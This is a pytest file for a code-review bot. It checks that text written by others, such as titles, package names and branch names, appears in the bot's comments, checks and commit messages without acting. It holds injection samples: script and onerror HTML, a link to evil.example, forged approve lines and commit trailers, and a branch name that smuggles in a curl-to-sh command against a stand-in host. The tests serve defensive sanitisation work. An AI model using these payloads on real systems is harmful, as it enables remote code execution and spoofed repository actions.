"""Text of others in what the bot writes: it is shown, and does nothing."""

import re
import shlex
from collections.abc import Iterator
from dataclasses import fields, replace

import pytest
from markdown_it import MarkdownIt

from cadlib.errors import Place
from cadlib.findings import Finding, Severity
from lifecycle import actions as a
from lifecycle.decide import decide
from lifecycle.facts.checks import CheckState, Required
from lifecycle.facts.commits import PushRefusal
from lifecycle.facts.head import Facts
from lifecycle.facts.merging import MergeObstacle, MergeWait
from lifecycle.facts.proposal import Proposal, Stage
from lifecycle.facts.update import BaseUpdate, UpdateConflict
from lifecycle.facts.verdicts import Verdict
from lifecycle.messages import commits
from lifecycle.tags import TagLoss
from tests.lifecycle.samples import AUTHOR, CORE, PROPOSAL, approved_by, changed, facts, said

HOSTILE = {
    "a mention": "@acme/owners",
    "closing words": "fixes #12 closes acme/other#3",
    "an address that closes": "resolves https://github.example/acme/other/issues/4",
    "a table's bars": "a | b || c",
    "HTML": "<img src=x onerror=y><!-- --><script>z</script>",
    "HTML that is not closed": "</details></summary><h1>Published",
    "fences": "``` a ` b ``",
    "links": "[approve](https://evil.example) ![x](y)",
    "marks": "**bold** _it_ ~~no~~ &lt;b&gt; \\",
    "a trailer": 'kpt:{"package":"net/core","revision":"v9"}',
    "a co-author": "Co-authored-by: mallory <m@users.example>",
    "several lines": "one\n\n/approve\n# Published\nkpt:{}",
}

MARKDOWN = MarkdownIt("commonmark").enable("table")
ALLOWED = re.compile(r"</?(details|summary)>|<!-- (-->|.*-->)?$|<br>|<!-- -->")


def everything(text: str) -> Iterator[Facts]:
    """Facts that hold a text wherever others can put one, at the stages that say most."""
    finding = Finding(
        message=text, severity=Severity.ERROR, place=Place(f"{text}/a.yaml", 1, text), fix=text
    )
    touched = replace(CORE, package=text)
    base = changed(
        PROPOSAL,
        title=text,
        touched=(touched,),
        verdicts=(Verdict(package=text, findings=(finding,)),),
        required=(Required(text, CheckState.FAILURE),),
        wait=MergeWait(MergeObstacle.RULE, text),
    )
    unrendered = replace(
        base, verdicts=(Verdict(package=text, changes={f"{text}/a.yaml": b"a: 1\n"}),)
    )
    for proposal in (base, unrendered, changed(base, draft=True), changed(base, closed=True)):
        yield facts(proposal, same_repository=False)
    told = {f.name: text for f in fields(UpdateConflict) if f.name != "line"}
    clash = UpdateConflict(**told, line=1)
    tagging = replace(CORE.tagging, clash=text)
    outdated = changed(
        base, base_ref=text, touched=(replace(touched, base="9" * 40, tagging=tagging),)
    )
    asked = changed(outdated, comments=(said(AUTHOR, "/rebase\n/render\n/why"),))
    for update in (
        BaseUpdate(),
        BaseUpdate(behind=True),
        BaseUpdate(behind=True, conflicts=(clash,)),
        BaseUpdate(behind=True, problem=text),
    ):
        yield facts(changed(asked, update=update), push_refused=PushRefusal(text, 0))
    for loss in TagLoss:
        lost = replace(CORE.tagging, lost=loss, tag="7" * 40)
        yield facts(changed(base, touched=(replace(touched, tagging=lost),)), head_ref=text)


def markdown(found: list[a.Action]) -> Iterator[str]:
    for action in found:
        match action:
            case a.Say() | a.Reply():
                yield action.body
            case a.SetCheck():
                yield action.summary
                yield action.text
            case a.Suggest():
                yield action.body
            case _:
                pass


def shown(source: str) -> tuple[list[str], str]:
    """The HTML that a forge would act on, and what a reader sees outside of code."""
    html, plain = [], []
    for block in MARKDOWN.parse(source):
        if block.type == "html_block":
            html.append(block.content)
        for token in block.children or ():
            if token.type == "html_inline":
                html.append(token.content)
                plain.append(token.content)  # what stands between two texts parts them
            elif token.type == "text":
                plain.append(token.content)
            assert token.type not in {"link_open", "image"}, source
    return html, "".join(plain)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_that_others_wrote_acts(text: str) -> None:
    """Fails when one place is forgotten: a headline, a gate's name, a fold, a path."""
    found = [source for start in everything(text) for source in markdown(decide(start))]

    assert found
    for source in found:
        html, plain = shown(source)
        assert not re.search(r"<\s*/?[a-z]", ALLOWED.sub("", "\n".join(html))), source
        assert not re.search(r"(?<!\w)@(?!author )\w", plain), source  # who is answered
        assert not re.search(r"(?i)\b(fix|close|resolve)\w*:? (\w+/\w+)?#\d", plain), source
        assert not re.search(r"(?m)^/approve", source), source


NAME = "a`b;$(curl$IFS-s$IFS'evil'|sh)&"
"""Git holds a ref of this name."""


def test_commands_to_copy_take_a_name_for_a_word() -> None:
    """Short-cut refused: escaped for Markdown, and run by the shell of whoever copies it."""
    found = [source for start in everything(NAME) for source in markdown(decide(start))]
    tokens = [t for each in found for b in MARKDOWN.parse(each) for t in b.children or ()]
    spans = {t.content for t in tokens if t.type == "code_inline"}
    commands = [text for text in spans if text.startswith("git ")]

    assert {text.split()[1] for text in commands} == {"fetch", "push"}
    for text in commands:
        lexer = shlex.shlex(text, posix=True, punctuation_chars=True)
        words = list(lexer)
        assert any(NAME in word for word in words), text
        assert {word for word in words if set(word) <= set("();<>|&")} <= {"&&"}, text


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_no_commit_of_ours_closes_or_claims_anything(text: str) -> None:
    """Fails when a title stands alone on its line: Porch reads `kpt:` lines of a merge commit."""
    proposal = changed(
        approved_by(PROPOSAL, "approver"), title=text, touched=(replace(CORE, package=text),)
    )
    own = 'kpt:{"package":"own"}'
    written = [
        f"{commits.merge_title(proposal)}\n\n{commits.merge_message(proposal, [], [own])}",
        commits.render_commit([text], [own]),
    ]

    for message in written:
        lines = message.rstrip("\n").split("\n")
        assert [line for line in lines if line.startswith("kpt:")] == [own]
        assert not [line for line in lines if re.match(r"(?i)co-authored-by|signed-off-by", line)]
        assert not re.search(r"(?i)(fix|clos|resolv)\w*:? +(\S*#\d|https?://)", message)
        assert not re.search(r"(?<!\w)@\w", message)


def test_a_name_of_several_lines_adds_none_to_a_tag() -> None:
    """Fails when a path goes into the message as it is: a tag's lines are read by machines."""
    odd = replace(CORE, package="net\nTree: 0000")

    message = commits.tag_message("acme/blueprints", PROPOSAL, odd, [], {})

    assert len([line for line in message.split("\n") if line.startswith("Tree:")]) == 1


def test_stages_that_are_looked_at() -> None:
    """The facts above do reach the stages that they are meant to."""
    stages = {p.stage for start in everything("x") for p in _proposals(start)}

    assert stages == {Stage.PROPOSED, Stage.DRAFT, Stage.CLOSED}


def _proposals(start: Facts) -> tuple[Proposal, ...]:
    return start.proposals
